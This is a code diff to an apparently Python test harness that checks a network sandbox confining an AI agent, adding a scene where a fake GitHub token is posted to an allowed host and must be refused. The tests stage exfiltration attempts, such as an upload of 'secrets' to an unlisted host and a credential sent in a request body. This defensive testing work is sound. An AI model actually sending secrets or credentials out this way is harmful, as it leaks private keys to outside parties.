@@ -8,7 +8,9 @@ from __future__ import annotations
 
 import json
 import os
+import secrets
 import shlex
+import string
 import sys
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -109,7 +111,12 @@ def host_not_allowed(stage: Stage) -> Outcome:
     """A host that no route names."""
     tried, result = _fetch(stage, f"https://{ELSEWHERE_HOST}/upload?data=secrets")
     return _refused(
-        stage, tried, result, host=ELSEWHERE_HOST, reason="host_not_allowed", server=stage.elsewhere
+        stage,
+        tried,
+        result,
+        host=ELSEWHERE_HOST,
+        reason="host_not_allowed",
+        silent=not stage.elsewhere.accepted,
     )
 
 
@@ -125,7 +132,7 @@ def proxy_ignored(stage: Stage) -> Outcome:
         refused,
         host=ELSEWHERE_HOST,
         reason="host_not_allowed",
-        server=stage.elsewhere,
+        silent=not stage.elsewhere.accepted,
     )
     ok = outcome.ok and arrived == ["/guide"] and SITE_HOST in _text(allowed)
     reached = "reached the site" if arrived == ["/guide"] else f"did not go as it should: {_text(allowed)!r}"
@@ -157,7 +164,17 @@ def raw_and_dns(stage: Stage) -> Outcome:
 def push_refused(stage: Stage) -> Outcome:
     """A git push over HTTP, to a host that is otherwise allowed."""
     tried, result = _fetch(stage, f"https://{SITE_HOST}/me/repo.git/info/refs?service=git-receive-pack")
-    return _refused(stage, tried, result, host=SITE_HOST, reason="git_push_denied", server=None)
+    return _refused(
+        stage, tried, result, host=SITE_HOST, reason="git_push_denied", silent=_no_push_seen(stage)
+    )
+
+
+def credential_kept_in(stage: Stage) -> Outcome:
+    """A key that the agent found, in the body of a request to a host that is otherwise allowed."""
+    key = "ghp_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))
+    tried, result = _fetch(stage, f"https://{SITE_HOST}/notes", data=json.dumps({"note": f"my key is {key}"}))
+    silent = not any(key.encode() in seen.body or key in seen.target for seen in stage.site.seen)
+    return _refused(stage, tried, result, host=SITE_HOST, reason="credential_found", silent=silent)
 
 
 def record_is_whole(stage: Stage) -> Outcome:
@@ -186,6 +203,7 @@ SCENES = (
     Scene(title="A client that ignores the proxy", play=proxy_ignored),
     Scene(title="A raw connection and a DNS query go nowhere", play=raw_and_dns),
     Scene(title="A git push over HTTP, even to an allowed host", play=push_refused),
+    Scene(title="A credential in the body of a request to an allowed host", play=credential_kept_in),
 )
 
 #: Played after the bottle is gone.
@@ -193,9 +211,9 @@ EPILOGUE = (Scene(title="The record is whole, and nothing of the bottle is left"
 
 
 def _refused(
-    stage: Stage, tried: str, result: ExecResult, *, host: str, reason: str, server: object
+    stage: Stage, tried: str, result: ExecResult, *, host: str, reason: str, silent: bool
 ) -> Outcome:
-    """Judge a refusal: the agent read why, nothing arrived, and the audit line says the same."""
+    """Judge a refusal: the agent read why, nothing arrived (``silent``), and the audit line says the same."""
     try:
         body = json.loads(_text(result))
     except ValueError:
@@ -203,7 +221,6 @@ def _refused(
     last = _last_line(stage, host)
     explained = body.get("error") == "bot_bottle_denied" and body.get("reason") == reason
     recorded = last.get("decision") == "deny" and last.get("reason") == reason
-    silent = not stage.elsewhere.accepted if server is stage.elsewhere else _no_push_seen(stage)
     words = f"403 {body.get('reason')}: {body.get('message')}" if body else f"no refusal: {_text(result)!r}"
     return Outcome(
         ok=explained and recorded and silent,
